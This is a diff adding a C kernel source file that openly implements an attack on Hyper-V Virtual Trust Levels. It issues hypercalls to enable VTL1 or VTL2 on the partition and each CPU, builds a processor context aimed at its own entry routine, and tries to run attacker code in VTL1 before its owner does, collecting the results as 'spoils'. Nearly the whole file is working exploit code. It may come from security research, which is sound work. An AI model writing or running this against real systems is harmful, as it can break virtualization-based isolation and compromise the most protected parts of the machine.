@@ -1,0 +1,148 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Code of the attacker in VTL1: enabled there with a context of its own, or started. VTL1 without an owner is
+ * anybody's; whoever was there first keeps it.
+ */
+#include <linux/cpumask.h>
+#include <linux/mm.h>
+#include <linux/vmalloc.h>
+#include <asm/desc.h>
+#include <asm/mshyperv.h>
+
+#include "attack.h"
+
+#define HVCALL_ENABLE_PARTITION_VTL 0x000d
+#define HVCALL_ENABLE_VP_VTL_	    0x000f
+#define HVCALL_START_PROCESSOR	    0x0099
+
+/* attack_entry.S: VTL1 begins there. It reads what is below, and fills in the spoils. */
+void attack_entry(void);
+extern u64 attack_entry_hypercall_msr, attack_entry_return;
+extern struct attack_spoils attack_entry_spoils;
+
+static u8 stack[1024] __aligned(16);
+
+/* How the tries ended; the last is the one that counts. */
+static struct {
+	u64 partition, partition_vtl2, enable, enable_others, start;
+	bool done, entered;
+} tries;
+
+u64 attack_own_rsp(void)
+{
+	return (u64)stack + sizeof(stack) - 16;
+}
+
+/* All of VTL0's, but for where it begins and its stack. */
+static void own_context(struct hv_init_vp_context *context)
+{
+	const struct hv_x64_segment_register data = {
+		.limit = 0xffffffff, .selector = __KERNEL_DS, .attributes = 0xc093};
+
+	memset(context, 0, sizeof(*context));
+	context->rip = (u64)attack_entry;
+	context->rsp = attack_own_rsp();
+	context->rflags = X86_EFLAGS_FIXED;
+	context->cs = data;
+	context->cs.selector = __KERNEL_CS;
+	context->cs.attributes = 0xa09b;
+	context->ds = data;
+	context->es = data;
+	context->fs = data;
+	context->gs = data;
+	context->ss = data;
+	context->tr.limit = 0x67;
+	context->tr.selector = GDT_ENTRY_TSS * 8;
+	context->tr.attributes = 0x8b;
+	rdmsrl(MSR_EFER, context->efer);
+	context->efer &= ~(u64)EFER_SVME;
+	context->cr0 = read_cr0();
+	context->cr3 = __read_cr3();
+	context->cr4 = __read_cr4();
+	rdmsrl(MSR_IA32_CR_PAT, context->msr_cr_pat);
+}
+
+static u64 enable_partition(u8 vtl)
+{
+	memset(attack_input, 0, 16);
+	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
+	attack_input[8] = vtl;
+	return attack_hypercall(HVCALL_ENABLE_PARTITION_VTL, 0);
+}
+
+/* HvCallEnableVpVtl and HvCallStartVirtualProcessor have the same input. */
+static u64 start(u16 code, u32 vp)
+{
+	struct hv_enable_vp_vtl *input = (struct hv_enable_vp_vtl *)attack_input;
+
+	memset(input, 0, sizeof(*input));
+	input->partition_id = HV_PARTITION_ID_SELF;
+	input->vp_index = vp;
+	input->target_vtl.target_vtl = 1;
+	own_context(&input->vp_context);
+	return attack_hypercall(code, 0);
+}
+
+static void enter(void *call_stub)
+{
+	u64 control = 0;
+
+	attack_entry_hypercall_msr = (u64)vmalloc_to_pfn(hv_hypercall_pg) << PAGE_SHIFT | 1;
+	asm volatile(CALL_NOSPEC
+		     : "+c"(control), ASM_CALL_CONSTRAINT
+		     : THUNK_TARGET(call_stub)
+		     : "rax", "rdx", "rdi", "memory", "cc");
+}
+
+const struct attack_spoils *attack_take_over(void)
+{
+	void *call_stub = attack_vtl_call_stub();
+	unsigned long flags;
+	int cpu;
+
+	if (!tries.done) {
+		tries.done = true;
+		attack_entry_return = (u64)attack_vtl_return_stub();
+		local_irq_save(flags); /* on one CPU, and with its page tables */
+		tries.partition = enable_partition(1);
+		tries.enable = start(HVCALL_ENABLE_VP_VTL_, HV_VP_INDEX_SELF);
+		if (hv_result_success(tries.enable))
+			enter(call_stub);
+		tries.entered = attack_entry_spoils.cr3;
+		/* Above the owner is where one would like to be, too. */
+		if (!tries.entered)
+			tries.partition_vtl2 = enable_partition(2);
+		for_each_online_cpu(cpu)
+		{
+			if (tries.entered || cpu == smp_processor_id())
+				continue;
+			tries.enable_others =
+				start(HVCALL_ENABLE_VP_VTL_, hv_cpu_number_to_vp_number(cpu));
+			tries.start =
+				start(HVCALL_START_PROCESSOR, hv_cpu_number_to_vp_number(cpu));
+		}
+		local_irq_restore(flags);
+	}
+	return tries.entered ? &attack_entry_spoils : NULL;
+}
+
+bool attack_start(struct attack_story *story)
+{
+	const bool entered = attack_take_over();
+	bool through = entered;
+
+	if (entered) {
+		attack_tell(story, "VTL1 was free: own code ran in it");
+		return true;
+	}
+	through = hv_result_success(tries.enable) || hv_result_success(tries.partition_vtl2);
+	if (num_online_cpus() > 1)
+		through = through || hv_result_success(tries.enable_others) ||
+			  hv_result_success(tries.start);
+	attack_tell(story, "hypercalls: enabling VTL1 %s, on this CPU %s; VTL2 %s%s%s",
+		    attack_status(tries.partition), attack_status(tries.enable),
+		    attack_status(tries.partition_vtl2),
+		    num_online_cpus() > 1 ? "; starting another CPU " : "",
+		    num_online_cpus() > 1 ? attack_status(tries.start) : "");
+	return through;
+}
